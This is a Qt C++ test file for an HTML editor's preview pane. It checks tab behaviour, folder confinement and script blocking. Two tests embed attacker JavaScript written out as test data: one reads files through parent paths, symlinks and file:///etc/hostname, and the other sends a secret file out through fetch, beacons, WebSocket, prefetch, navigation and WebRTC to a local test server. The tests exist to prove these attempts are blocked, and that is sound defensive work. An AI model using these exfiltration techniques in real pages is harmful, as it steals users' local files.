#include "documentcontroller.h"
#include "folderrequestinterceptor.h"
#include "previewcontroller.h"
#include "previewpane.h"
#include "testsupport.h"
#include "webenginesandbox.h"

#include <QTcpServer>
#include <QUdpSocket>
#include <QWebEngineSettings>
#include <QWebEngineView>

using namespace zendral;
using namespace zendral::test;
using namespace Qt::StringLiterals;

namespace {

// A shown main window with its document tabs.
struct Fixture : WindowFixture
{
    QTabWidget *tabs = window.findChild<QTabWidget *>(QStringLiteral("SSTab1"));

    Fixture() { showAndWait(); }
    void clickTab(int index)
    {
        QTest::mouseClick(tabs->tabBar(), Qt::LeftButton, {},
                          tabs->tabBar()->tabRect(index).center());
        QCOMPARE(tabs->currentIndex(), index);
    }
    QWebEngineView *browser() { return window.findChild<QWebEngineView *>(u"browser"_s); }
    // Saves a page titled "esperando" that runs script as path, and shows its preview.
    void preview(const QString &path, const QString &script)
    {
        page().setText(QStringLiteral("<html><head><title>esperando</title></head><body><script>") +
                       script + QStringLiteral("</script></body></html>"));
        trigger(QStringLiteral("mn_guardar"), path);
        clickTab(1);
        QVERIFY(browser());
    }
};

} // namespace

class TestPreview : public QObject
{
    Q_OBJECT

private slots:
    void tabClick_data()
    {
        QTest::addColumn<bool>("saved");
        QTest::addColumn<bool>("edited");
        QTest::newRow("right after start-up") << false << false;
        QTest::newRow("after Save") << true << false;
        QTest::newRow("an edit after Save") << true << true;
    }

    void tabClick()
    {
        QFETCH(bool, saved);
        QFETCH(bool, edited);
        QTemporaryDir dir;
        Fixture f;
        f.page().setText(
            QStringLiteral("<html><head><title>Pagina de prueba</title></head></html>"));
        if (saved)
            f.trigger(QStringLiteral("mn_guardar"), dir.filePath(QStringLiteral("uno.html")));
        if (edited) {
            // The preview tab is visited and left once with the file saved.
            f.clickTab(1);
            f.clickTab(0);
            f.view.setFocus();
            QTest::keyClick(&f.view, Qt::Key_X);
        }
        f.prompts.notices.clear();
        f.clickTab(1); // and the tab stays where the user put it
        const bool shown = saved && !edited;
        QCOMPARE(f.prompts.notices,
                 shown ? QStringList() : QStringList(PreviewController::saveFirstToPreview()));
        QVERIFY(f.browser() || !shown);
        if (f.browser())
            QTRY_COMPARE(f.browser()->url(),
                         shown ? QUrl::fromLocalFile(dir.filePath(QStringLiteral("uno.html")))
                               : QUrl(QStringLiteral("about:blank")));
        if (shown)
            QTRY_COMPARE(f.browser()->title(), QStringLiteral("Pagina de prueba"));
    }

    // The page reads what is in its folder and below, and nothing else; window.open used to
    // hand back a window kept out of sight, still running the page.
    void pageStaysInsideItsFolder()
    {
        QTemporaryDir dir;
        writeBytes(dir.filePath(QStringLiteral("secreto.txt")), "SECRETO");
        writeBytes(dir.filePath(QStringLiteral("sitio/dentro.txt")), "DENTRO");
        QVERIFY(QFile::link(dir.filePath(QStringLiteral("secreto.txt")),
                            dir.filePath(QStringLiteral("sitio/enlace.txt"))));
        Fixture f;
        f.preview(dir.filePath(QStringLiteral("sitio/pagina.html")), QStringLiteral(R"(
var results = [];
function tell(way, what) {
  results.push(way + ':' + what); if (results.length == 5) document.title = results.sort().join(); }
function read(way, address) {
  var x = new XMLHttpRequest();
  x.onload = () => tell(way, x.responseText); x.onerror = () => tell(way, 'rechazado');
  try { x.open('GET', address); x.send(); } catch (e) { tell(way, 'rechazado'); } }
read('beside', 'dentro.txt'); read('above', '../secreto.txt');
read('absolute', 'file:///etc/hostname'); read('link', 'enlace.txt');
var w = window.open('../secreto.txt');
if (!w) tell('window', 'rechazado'); else w.addEventListener('load', () => {
  try { tell('window', w.document.body.innerText.trim()); } catch (e) { tell('window', 'rechazado'); } });
)"));
        QTRY_COMPARE_WITH_TIMEOUT(f.browser()->title(),
                                  QStringLiteral("above:rechazado,absolute:rechazado,beside:DENTRO,"
                                                 "link:rechazado,window:rechazado"),
                                  15000);
    }

    // An attacker's page reads the file beside it and tries every way out to servers on this
    // machine; the servers must see no connection at all. The browser's own guard on remote
    // addresses is turned off: it let WebSocket through, and the seal must not depend on it.
    void nothingLeavesTheMachine()
    {
        QTcpServer web;
        QVERIFY(web.listen(QHostAddress::LocalHost));
        QSignalSpy webCalls(&web, &QTcpServer::newConnection);
        QUdpSocket datagrams;
        QVERIFY(datagrams.bind(QHostAddress::LocalHost));
        // Once every way has settled, the page navigates away from itself, the last way out.
        const QString attack = QStringLiteral(R"(
var H = 'http://127.0.0.1:%1/', s = '', left = 5;
function settled() { if (--left == 0) location.href = H + 'location?d=' + s; }
fetch('secreto.txt').then(r => r.text()).then(t => {
  s = encodeURIComponent(t);
  fetch(H + 'fetch', {method: 'POST', body: t}).finally(settled);
  var f = document.createElement('iframe'); f.onload = settled; f.src = H + 'iframe?d=' + s;
  document.body.appendChild(f);
  navigator.sendBeacon(H + 'beacon', t);
  var w = new WebSocket(H.replace('http', 'ws') + 'websocket?d=' + s);
  w.onopen = w.onerror = settled;
  var l = document.createElement('link'); l.rel = 'prefetch'; l.href = H + 'prefetch?d=' + s;
  l.onload = l.onerror = settled; document.head.appendChild(l);
  for (var rel of ['preconnect', 'dns-prefetch', 'icon']) {
    var p = document.createElement('link'); p.rel = rel; p.href = H + rel; document.head.appendChild(p);
  }
  // Peer connections reach their servers without any request the browser could refuse.
  // A frame of its own is a fresh window, with every constructor in it.
  var blank = document.createElement('iframe'); document.body.appendChild(blank);
  var Peer = blank.contentWindow.RTCPeerConnection || window.RTCPeerConnection;
  if (!Peer) { settled(); } else {
    var pc = new Peer({iceServers: [{urls: 'stun:127.0.0.1:%2'},
        {urls: 'turn:127.0.0.1:%1?transport=tcp', username: 'u', credential: s}]});
    pc.createDataChannel('d');
    pc.onicegatheringstatechange = () => { if (pc.iceGatheringState == 'complete') settled(); };
    pc.createOffer().then(o => pc.setLocalDescription(o));
  }
});
)")
                                   .arg(web.serverPort())
                                   .arg(datagrams.localPort());

        QTemporaryDir dir;
        writeBytes(dir.filePath(QStringLiteral("sitio/secreto.txt")), "SECRETO");
        Fixture f;
        // The browser is made on the first visit to the tab; the second one loads the page again.
        f.preview(dir.filePath(QStringLiteral("sitio/ataque.html")), attack);
        f.browser()->settings()->setAttribute(QWebEngineSettings::LocalContentCanAccessRemoteUrls,
                                              true);
        QSignalSpy refused(child<FolderRequestInterceptor>(&f.window, QString()),
                           &FolderRequestInterceptor::refused);
        QSignalSpy loads(f.browser(), &QWebEngineView::loadFinished);
        f.clickTab(0);
        f.clickTab(1);
        // Once the page has gone, every request it made has been answered or dropped.
        const auto reached = [&] {
            QCoreApplication::processEvents();
            return webCalls.size() + web.hasPendingConnections() + datagrams.hasPendingDatagrams();
        };
        QTRY_VERIFY_WITH_TIMEOUT((!loads.isEmpty() && !loads.last().first().toBool()) || reached(),
                                 60000);
        QCOMPARE(reached(), 0);
        // Every way out was tried, and the seal refused each one itself.
        QStringList tried;
        for (const QList<QVariant> &address : refused)
            tried.append(address.first().toUrl().path().mid(1));
        for (const char *way : {"fetch", "iframe", "location", "beacon", "websocket", "prefetch"})
            QVERIFY2(tried.contains(QLatin1String(way)), qPrintable(tried.join(u' ')));
    }

    void wideFolderRunsNoScript_data()
    {
        QTest::addColumn<QString>("folder");
        QTest::addColumn<bool>("scripts");
        QTest::newRow("the home folder itself") << QStringLiteral("casa") << false;
        QTest::newRow("a folder inside the home folder") << QStringLiteral("casa/web") << true;
        QTest::newRow("the root folder") << QStringLiteral("/") << false;
    }

    void wideFolderRunsNoScript()
    {
        QFETCH(QString, folder);
        QFETCH(bool, scripts);
        QTemporaryDir dir;
        const QByteArray home = qgetenv("HOME");
        qputenv("HOME", QFile::encodeName(dir.filePath(QStringLiteral("casa"))));
        const QString inFolder = folder == u"/" ? folder : dir.filePath(folder);
        if (!QFileInfo(inFolder).isWritable() && !QDir().mkpath(inFolder))
            QSKIP("the folder cannot be written to");
        QTemporaryFile page(QDir(inFolder).filePath(QStringLiteral("zendral-XXXXXX.html")));
        QVERIFY(page.open());
        Fixture f;
        f.preview(page.fileName(), QStringLiteral("document.title = 'corrio';"));
        QSignalSpy loads(f.browser(), &QWebEngineView::loadFinished);
        QVERIFY(loads.wait(20000));
        qputenv("HOME", home);
        QCOMPARE(f.browser()->title(), QString::fromLatin1(scripts ? "corrio" : "esperando"));
        auto *note = child<QLabel>(&f.window, QStringLiteral("previewNote"));
        QCOMPARE(note->isVisible(), !scripts);
        if (!scripts) {
            QCOMPARE(note->text(),
                     PreviewPane::SinScripts(QFileInfo(page.fileName()).absolutePath()));
            QCOMPARE(note->textFormat(), Qt::PlainText);
        }
    }
};

int main(int argc, char *argv[])
{
    relaxWebEngineSandboxForRoot();
    QCoreApplication::setAttribute(Qt::AA_ShareOpenGLContexts);
    QApplication application(argc, argv);
    TestPreview test;
    return QTest::qExec(&test, argc, argv);
}

#include "tst_preview.moc"
